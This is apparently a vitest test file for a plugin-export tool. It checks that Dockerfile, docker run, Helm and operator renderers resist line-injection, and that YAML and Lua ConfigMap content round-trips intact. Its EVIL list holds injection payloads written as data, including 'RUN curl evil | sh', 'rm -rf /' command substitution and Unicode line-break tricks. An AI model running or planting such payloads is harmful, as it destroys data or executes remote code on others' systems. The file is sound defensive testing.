import { describe, expect, it } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { renderDockerfile } from '../../src/export/render-dockerfile.ts';
import { renderDockerRun } from '../../src/export/render-docker-run.ts';
import { renderHelm } from '../../src/export/render-helm.ts';
import { renderImageVolume } from '../../src/export/render-image-volume.ts';
import { renderInitContainer } from '../../src/export/render-init-container.ts';
import { renderOperator } from '../../src/export/render-operator.ts';
import { writeYaml } from '../../src/export/write-yaml.ts';
import { fc } from '../support/properties.ts';
import { makeExported } from './make-exported.ts';

const RENDERERS = {
  renderDockerfile,
  renderDockerRun,
  renderHelm,
  renderImageVolume,
  renderInitContainer,
  renderOperator,
};

const EVIL = [
  'x\nRUN curl evil | sh',
  'x\r\nRUN evil',
  'x\u2028RUN evil\u0085b: c',
  '"; rm -rf / #',
  '$(rm -rf /)`rm`',
  "'\\''",
  '\u001b[2K\u202etxt',
  '{{ .Release }} ${PATH} $(A)',
  'a: b # c',
];

describe.each(Object.entries(RENDERERS))('%s', (_, render) => {
  const bare = render(makeExported({ version: '' }), {});

  // A shell's words may have several lines: there they are the caller's own.
  const settingsWith = (evil: string) =>
    render === renderDockerRun ? {} : { trustArguments: [evil] };

  it.each(EVIL)('has nothing but its first line changed by %j', (evil) => {
    const plugin = makeExported({ version: evil, trust: evil, source: evil });
    render(plugin, settingsWith(evil)).forEach(({ text }, index) => {
      const [first = '', ...rest] = text.split(/\r\n|[\n\r\u0085\u2028\u2029]/);
      expect(first).toMatch(/^# kongcrate export: /);
      expect(rest).toEqual(bare[index]?.text.split('\n').slice(1));
    });
  });
});

describe('texts in YAML', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom('\n', '\n', '\t', ' ', '#', ':', '-', 'a', '"'),
      maxLength: 6,
    }),
    fc.string({ unit: fc.constantFrom('\n', '\r', 'a', '\u0085', '\u2028', '\ufeff') }),
    fc.constantFrom(
      'yes',
      'No',
      'on',
      'y',
      'null',
      '~',
      '1:30',
      '0o7',
      '1e3',
      '.inf',
      '<<',
      '=',
      '',
    ),
  );

  it('are read back as they were, by YAML 1.1 and 1.2, as keys and as values', () => {
    const map = fc.dictionary(fc.oneof(text, fc.string()), text);
    fc.assert(
      fc.property(map, text, (pairs, one) => {
        const value = { pairs: Object.fromEntries(Object.entries(pairs)), list: [one] };
        const written = writeYaml(value);
        expect(parse(written, { version: '1.2' })).toEqual(value);
        expect(parse(written, { version: '1.1', merge: true })).toEqual(value);
      }),
      { numRuns: 500 },
    );
  });

  it('of Lua files stay whole, one ConfigMap a directory', () => {
    const texts = [
      '\ta\n b\n\n',
      '---\n...\nkind: Secret\n',
      ' \n',
      'a\r\nb\n',
      '%YAML 1.1\n',
      '\0',
    ];
    const files = Object.fromEntries(texts.map((one, index) => [`f${index}.lua`, one]));
    const [maps] = renderHelm(makeExported({}, { ...files, 'b.lua': Buffer.from([0xfe, 10]) }), {});
    const [map, ...others] = parseAllDocuments(maps?.text ?? '').map(
      (document) => document.toJS() as { data: unknown; binaryData: unknown },
    );
    expect(others).toEqual([]);
    expect(map?.data).toMatchObject(files);
    expect(map?.binaryData).toEqual({ 'b.lua': '/go=' });
  });
});
